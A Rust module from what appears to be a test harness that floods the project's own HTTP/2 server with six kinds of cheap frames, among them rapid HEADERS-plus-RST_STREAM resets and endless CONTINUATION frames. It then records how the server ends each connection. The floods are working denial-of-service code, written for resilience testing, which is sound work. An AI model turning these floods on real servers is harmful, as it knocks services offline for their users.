//! Frames of HTTP/2 that cost their sender nothing, without end (RFC 9113).

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use super::attacker::Attacker;

/// Kinds of floods; an attacker each.
pub(crate) const FLOODS: u8 = 6;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frames of one write.
const BURST: u32 = 500;

/// Types of frames.
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM_AND_HEADERS: u8 = 0x5;

/// `:method GET`, `:scheme http`, `:path /`, of HPACK's static table, and an authority.
const REQUEST: &[u8] = b"\x82\x86\x84\x41\x08hub.test";

/// Floods a connection until the hub ends it.
pub(crate) fn attempt(attacker: &mut Attacker<'_>) {
    let Some(mut stream) = attacker.connect() else { return };
    let (name, frames): (_, fn(u32) -> Vec<u8>) = match attacker.number {
        0 => ("PING", |_| frame(PING, 0, 0, &[0; 8])),
        1 => ("SETTINGS", |_| frame(SETTINGS, 0, 0, &[])),
        2 => ("PRIORITY", |number| frame(PRIORITY, 0, odd(number), &[0, 0, 0, 0, 16])),
        3 => ("RST_STREAM", |number| {
            let request = frame(HEADERS, END_STREAM_AND_HEADERS, odd(number), REQUEST);
            [request, frame(RST_STREAM, 0, odd(number), &[0, 0, 0, 8])].concat()
        }),
        4 => ("CONTINUATION", |number| {
            let kind = if number == 0 { HEADERS } else { CONTINUATION };
            frame(kind, 0, 1, b"\x00\x01a\x01b")
        }),
        _ => ("WINDOW_UPDATE", |_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    };
    let mut sent = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).is_ok();
    let (mut number, mut received) = (0, Vec::new());
    while sent && !attacker.is_over() && drain(&mut stream, &mut received) {
        let burst: Vec<u8> = (number..number + BURST).flat_map(frames).collect();
        number += BURST;
        sent = stream.write_all(&burst).is_ok();
        attacker.pause(Duration::from_millis(2));
    }
    if !attacker.is_over() {
        drain(&mut stream, &mut received);
        attacker.count(format!("{name}: {}", ending(&received)));
        attacker.pause(Duration::from_millis(100));
    } else {
        attacker.count(format!("{name}: open at the end"));
    }
}

/// The ID of a client's stream.
fn odd(number: u32) -> u32 {
    (2 * number + 1) & 0x7fff_ffff
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Takes what the hub sends, without waiting. Whether the connection is still open.
fn drain(stream: &mut TcpStream, received: &mut Vec<u8>) -> bool {
    let _ = stream.set_nonblocking(true);
    let mut buffer = [0; 16 << 10];
    let open = loop {
        match stream.read(&mut buffer) {
            Ok(0) => break false,
            Ok(count) => received.extend_from_slice(&buffer[..count]),
            Err(error) => break error.kind() == ErrorKind::WouldBlock,
        }
    };
    let _ = stream.set_nonblocking(false);
    open
}

/// How the hub has ended it: by GOAWAY with an error code, or without a word.
fn ending(mut received: &[u8]) -> String {
    let mut ending = "closed".to_owned();
    while let [a, b, c, kind, _, _, _, _, _, rest @ ..] = received {
        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        if let (GOAWAY, Some([_, _, _, _, code @ ..])) = (*kind, rest.get(..length.min(8))) {
            ending = match code {
                [0, 0, 0, 11] => "ENHANCE_YOUR_CALM".into(),
                code => format!("GOAWAY {}", code.last().copied().unwrap_or_default()),
            };
        }
        received = rest.get(length..).unwrap_or_default();
    }
    ending
}

#[cfg(test)]
mod tests {
    use super::{GOAWAY, PING, ending, frame};

    #[test]
    fn the_ending_is_that_of_the_last_goaway() {
        let calm = frame(GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        assert_eq!(ending(&[frame(PING, 1, 0, &[0; 8]), calm].concat()), "ENHANCE_YOUR_CALM");
        assert_eq!(ending(&frame(GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 1])), "GOAWAY 1");
        assert_eq!(ending(b""), "closed");
    }
}
